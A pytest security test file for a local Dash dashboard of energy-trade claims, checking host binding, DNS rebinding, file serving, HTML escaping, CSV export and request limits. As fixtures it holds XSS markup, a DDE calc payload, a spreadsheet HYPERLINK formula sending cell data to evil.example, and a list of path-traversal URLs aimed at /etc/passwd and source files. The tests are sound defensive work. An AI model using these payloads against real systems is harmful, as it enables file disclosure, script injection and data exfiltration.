"""The dashboard trusts nothing: it listens on 127.0.0.1 unless told (and warns when told),
serves no file from outside its own assets, renders article text as text, writes CSV a
spreadsheet will not run, and refuses oversized requests. Through Flask's test client
(and one raw socket, which sends paths unnormalised); no browser needed."""
from __future__ import annotations

import csv
import http.client
import io
import json
from datetime import date
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import dash
import pandas as pd
import pytest

from dashboards import ids
from dashboards.app import LOOPBACK_HOSTS, MAX_REQUEST_BYTES, create_app
from tracker import cli

CANARY = "canary-7f3a9c-not-to-be-served"
FORMULAS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = {
    "article_id": "hostile", "published": "2024-05-15", "lang": "en",
    "source": "@SUM(1+1)*cmd|' /C calc'!A0", "url": "javascript:alert(document.cookie)",
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "text": ('<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>'
             "Russian pipeline gas deliveries to China rose to 22.7 bcm in 2023.\n"
             "+1+1 -2 @x \tTab <b>bold</b> <iframe src=//evil.example></iframe>"),
}


# --------------------------------------------------------------------------- fixtures

@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store of one article whose every text field is markup or a formula, and a canary
    file beside the data folder that no URL may reach."""
    from tracker import schema
    from tracker.models import Article
    from tracker.store import Store, default_store_path

    root = tmp_path_factory.mktemp("hostile")
    clean = root / "clean"
    clean.mkdir()
    (root / "secret.txt").write_text(CANARY, encoding="utf-8")
    (clean / "secret.txt").write_text(CANARY, encoding="utf-8")
    (root / "reference").mkdir()
    text = HOSTILE["text"]
    surface = "22.7 bcm"
    start = text.index(surface)
    row = {"claim_id": "=c1", "article_id": HOSTILE["article_id"], "published": HOSTILE["published"],
           "source": HOSTILE["source"], "url": HOSTILE["url"], "title": HOSTILE["title"], "lang": "en",
           "indicator": "energy_deliveries", "commodity": "gas", "exporter": "RUS", "importer": "CHN",
           "measure": "change", "value": -22.7, "value_high": None, "unit": "bcm", "value_usd": None,
           "period": "2023", "basis": "yoy", "modality": "actual", "approx": "exact", "surface": surface,
           "start": start, "end": start + len(surface), "sentence": "-" + text.splitlines()[0],
           "rule": "=rule()", "confidence": 0.9, "alt": "@alt", "note": "\tnote"}
    claims = schema.validate(pd.DataFrame([row]))
    article = Article(article_id=HOSTILE["article_id"], text=text, published=date(2024, 5, 15),
                      published_precision="day", source=HOSTILE["source"], url=HOSTILE["url"],
                      title=HOSTILE["title"], lang="en")
    with Store.open(default_store_path(clean)) as store:
        store.replace_article(article, claims)
    return root


@pytest.fixture(scope="module")
def hostile_app(hostile_root: Path) -> dash.Dash:
    return create_app(hostile_root / "clean", hostile_root / "reference")


@pytest.fixture(scope="module")
def client(hostile_app: dash.Dash) -> Any:
    return hostile_app.server.test_client()


def _callback(client: Any, output: str, inputs: list[dict[str, Any]], state: list[dict[str, Any]] | None = None,
              **kwargs: Any) -> Any:
    """POST one callback the way the browser's Dash renderer does."""
    out_id, out_prop = output.rsplit(".", 1)
    body = {"output": output, "outputs": {"id": out_id, "property": out_prop}, "inputs": inputs,
            "state": state or [], "changedPropIds": [f"{inputs[0]['id']}.{inputs[0]['property']}"]}
    return client.post("/_dash-update-component", data=json.dumps(body), content_type="application/json",
                       **kwargs)


def _walk(node: Any) -> Any:
    """Every component (as Dash sends it: {type, namespace, props}) and string in a tree."""
    if isinstance(node, dict) and "props" in node and "type" in node:
        yield node
        yield from _walk(node["props"].get("children"))
    elif isinstance(node, list):
        for child in node:
            yield from _walk(child)
    elif isinstance(node, str):
        yield node


# --------------------------------------------------------------------------- where it listens

@pytest.fixture()
def no_server(monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """Dash.run replaced: records where the server would listen, starts nothing."""
    seen: dict[str, Any] = {}

    def run(self: dash.Dash, host: str = "", port: int = 0, debug: bool = False, **_: Any) -> None:
        seen.update(host=host, port=port, debug=debug, app=self)
    monkeypatch.setattr(dash.Dash, "run", run)
    return seen


def test_listens_on_127_0_0_1_by_default_and_answers_only_to_local_names(
        hostile_root: Path, no_server: dict[str, Any], capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["serve", "--data-dir", str(hostile_root / "clean")]) == 0
    assert no_server["host"] == "127.0.0.1" and no_server["debug"] is False
    assert "warning" not in capsys.readouterr().err
    c = no_server["app"].server.test_client()
    assert c.get("/", headers={"Host": "127.0.0.1:8050"}).status_code == 200
    assert c.get("/", headers={"Host": "localhost:8050"}).status_code == 200
    # a page elsewhere whose name is made to resolve to 127.0.0.1 (DNS rebinding) reads nothing
    assert c.get("/", headers={"Host": "evil.example:8050"}).status_code == 400
    assert c.post("/_dash-update-component", data="{}", content_type="application/json",
                  headers={"Host": "evil.example"}).status_code == 400


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.168.1.20", "dashboard.example"])
def test_another_address_is_served_with_a_warning(hostile_root: Path, no_server: dict[str, Any],
                                                   capsys: pytest.CaptureFixture[str], host: str) -> None:
    assert cli.main(["serve", "--host", host, "--data-dir", str(hostile_root / "clean")]) == 0
    assert no_server["host"] == host
    warning = [line for line in capsys.readouterr().err.splitlines() if "warning" in line]
    assert len(warning) == 1 and host in warning[0] and "no login" in warning[0] and "--host 127.0.0.1" in warning[0]
    assert no_server["app"].server.test_client().get("/", headers={"Host": "anything.example"}).status_code == 200


def test_debugger_only_on_loopback(hostile_root: Path, no_server: dict[str, Any],
                                   capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["serve", "--host", "0.0.0.0", "--debug", "--data-dir", str(hostile_root / "clean")]) == 2
    assert not no_server and "runs code sent to it" in capsys.readouterr().err


# --------------------------------------------------------------------------- files

TRAVERSALS = [
    "/assets/../secret.txt", "/assets/../../secret.txt", "/assets/../../../../../../etc/passwd",
    "/assets/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/assets/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/assets/%252e%252e/%252e%252e/etc/passwd", "/assets/..%5c..%5c..%5cetc%5cpasswd", "/assets/....//....//etc/passwd",
    "/assets//etc/passwd", "/assets/%2fetc%2fpasswd", "/assets/../app.py", "/assets/%2e%2e/app.py",
    "/assets/style.css%00.py", "/assets/..%c0%af..%c0%afetc/passwd",
    "/_dash-component-suites/dash/../../../../../etc/passwd",
    "/_dash-component-suites/dash/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/_dash-component-suites/dash/dash.py", "/_dash-component-suites/dash/__init__.py",
    "/_dash-component-suites/dashboards/app.py", "/_dash-component-suites/tracker/store.py",
    "/_dash-component-suites/os/../../etc/passwd", "/_dash-component-suites/dash/deps/..%2f..%2fdash.py",
    "/static/../../etc/passwd", "/static/app.py", "/etc/passwd", "/secret.txt", "/clean/secret.txt",
    "/article/..%2f..%2fsecret.txt", "/article/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/tracker.duckdb",
    "/_dash-layout/../../etc/passwd", "/_favicon.ico/../../etc/passwd",
]


def _leaks(body: bytes) -> list[str]:
    found = []
    if CANARY.encode() in body:
        found.append("canary")
    if b"root:x:0:0" in body or b"root:*:0:0" in body:
        found.append("/etc/passwd")
    if b"def create_app" in body or b"import duckdb" in body or b"DUCKDB" in body[:16]:
        found.append("source or store")
    return found


@pytest.mark.parametrize("url", TRAVERSALS)
def test_no_route_serves_a_file_from_outside(client: Any, url: str) -> None:
    response = client.get(url)
    assert response.status_code in (200, 400, 404), (url, response.status_code)  # no 500
    assert _leaks(response.data) == []
    if response.status_code == 200:  # the catch-all page route: Dash's HTML shell, nothing else
        assert response.mimetype == "text/html" and b'id="react-entry-point"' in response.data


def test_no_route_serves_a_file_from_outside_over_a_real_socket(server_url: str, data_root: Path) -> None:
    """http.client sends the path byte for byte ('..' unresolved), as an attacker's client would."""
    (data_root / "secret.txt").write_text(CANARY, encoding="utf-8")
    where = urlsplit(server_url)
    for url in TRAVERSALS:
        con = http.client.HTTPConnection(where.hostname, where.port, timeout=20)
        try:
            con.putrequest("GET", url, skip_accept_encoding=True)
            con.endheaders()
            response = con.getresponse()
            body = response.read()
        finally:
            con.close()
        assert response.status in (200, 400, 404), (url, response.status)
        assert _leaks(body) == [], url


def test_the_assets_it_does_serve(client: Any) -> None:
    response = client.get("/assets/style.css")
    assert response.status_code == 200 and response.mimetype == "text/css"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["X-Frame-Options"] == "DENY"
    page = client.get("/")
    bundles = [line.split('src="')[1].split('"')[0] for line in page.get_data(as_text=True).splitlines()
               if "_dash-component-suites" in line and 'src="' in line]
    assert bundles and all(client.get(b).status_code == 200 for b in bundles[:3])


# --------------------------------------------------------------------------- article text

def test_article_text_is_sent_as_text_never_as_html(client: Any) -> None:
    response = _callback(client, f"{ids.ARTICLE}.children",
                         [{"id": ids.SELECTION, "property": "data",
                           "value": {"article_id": "hostile", "claim_id": "=c1", "articles": ["hostile"]}}])
    assert response.status_code == 200
    tree = response.get_json()["response"][ids.ARTICLE]["children"]
    nodes = list(_walk(tree))
    components = [n for n in nodes if isinstance(n, dict)]
    text = "".join(n for n in nodes if isinstance(n, str))
    assert "<script>window.__pwned=2</script>" in text and 'onerror="window.__pwned=1"' in text
    assert HOSTILE["title"] in text
    assert {c["namespace"] for c in components} <= {"dash_html_components", "dash_core_components"}
    types = {c["type"] for c in components}
    assert not types & {"Iframe", "Script", "Markdown", "Embed", "Object", "ObjectEl"}
    for c in components:
        assert "dangerously_allow_html" not in c["props"] and "srcDoc" not in c["props"]
        href = str(c["props"].get("href", ""))
        assert not href.lower().lstrip().startswith(("javascript:", "data:", "vbscript:")), href


def test_the_article_page_renders_the_same_text(hostile_app: dash.Dash) -> None:
    from dashboards.pages import article

    with hostile_app.server.app_context():
        layout = article.layout("hostile", claim="=c1")
    payload = json.loads(json.dumps(layout, cls=__import__("plotly").utils.PlotlyJSONEncoder))
    nodes = list(_walk(payload))
    assert "<script>window.__pwned=2</script>" in "".join(n for n in nodes if isinstance(n, str))
    assert not any(isinstance(n, dict) and (n["type"] in ("Markdown", "Iframe", "Script")
                                            or "dangerously_allow_html" in n["props"]) for n in nodes)


# --------------------------------------------------------------------------- CSV

def _download(client: Any) -> str:
    filters = [(ids.INDICATOR, "value"), (ids.PARTNERS, "value"), (ids.COMMODITY, "value"),
               (ids.MODALITY, "value"), (ids.LANG, "value"), (ids.OUTLET, "value"),
               (ids.PUBLISHED, "start_date"), (ids.PUBLISHED, "end_date")]
    response = _callback(client, f"{ids.DOWNLOAD}.data",
                         [{"id": ids.DOWNLOAD_BUTTON, "property": "n_clicks", "value": 1}],
                         [{"id": c, "property": p, "value": None} for c, p in filters])
    assert response.status_code == 200
    sent = response.get_json()["response"][ids.DOWNLOAD]["data"]
    assert sent["filename"] == "claims.csv" and not sent["base64"]
    return str(sent["content"])


def test_csv_download_is_safe_against_formula_injection(client: Any) -> None:
    content = _download(client)
    rows = list(csv.DictReader(io.StringIO(content)))
    assert len(rows) == 1
    row = rows[0]
    for column, cell in row.items():
        if column in ("value", "value_high", "value_usd", "start", "end", "confidence"):
            continue
        assert not cell.startswith(FORMULAS), (column, cell)
    assert row["title"] == "'" + HOSTILE["title"] and row["source"] == "'" + HOSTILE["source"]
    assert row["claim_id"] == "'=c1" and row["sentence"].startswith("'-") and row["alt"] == "'@alt"
    assert float(row["value"]) == -22.7  # a negative number stays a number


def test_export_frame_quotes_each_formula_start() -> None:
    from dashboards import data

    df = pd.DataFrame({"title": [f"{c}1+1" for c in FORMULAS] + ["ok", " =x"],
                       "value": [-1.0] * 8, "published": pd.to_datetime(["2024-01-01"] * 8)})
    out = data.export_frame(df)
    assert list(out["title"]) == [f"'{c}1+1" for c in FORMULAS] + ["ok", " =x"]
    assert list(out["value"]) == [-1.0] * 8 and list(out["published"]) == ["2024-01-01"] * 8


# --------------------------------------------------------------------------- oversized requests

def test_oversized_requests_are_refused(client: Any) -> None:
    big = b'{"output": "' + b"x" * (MAX_REQUEST_BYTES + 10) + b'"}'
    assert client.post("/_dash-update-component", data=big, content_type="application/json").status_code == 413
    assert client.get("/?indicator=" + "x" * 10_000).status_code == 414
    assert client.get("/article/" + "x" * 10_000).status_code == 414
    # the ordinary sizes still work
    assert client.get("/?indicator=bilateral_trade&partners=CHN-RUS").status_code == 200
    assert _download(client)


def test_a_chunked_body_without_a_length_is_refused(server_url: str) -> None:
    """Over a real socket: the body comes in chunks and never says its size."""
    where = urlsplit(server_url)
    con = http.client.HTTPConnection(where.hostname, where.port, timeout=30)
    try:
        con.putrequest("POST", "/_dash-update-component")
        con.putheader("Content-Type", "application/json")
        con.putheader("Transfer-Encoding", "chunked")
        con.endheaders()
        try:
            for _ in range(40):  # 2 MB in 50 KB chunks
                chunk = b" " * 50_000
                con.send(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
            con.send(b"0\r\n\r\n")
        except (BrokenPipeError, ConnectionResetError):
            pass  # refused before the end: as good
        status = con.getresponse().status
    finally:
        con.close()
    assert status == 411  # Length Required: Dash's renderer always sends one


def test_trusted_hosts_are_the_loopback_names() -> None:
    assert {"localhost", "127.0.0.1", "::1", "[::1]"} <= set(LOOPBACK_HOSTS)
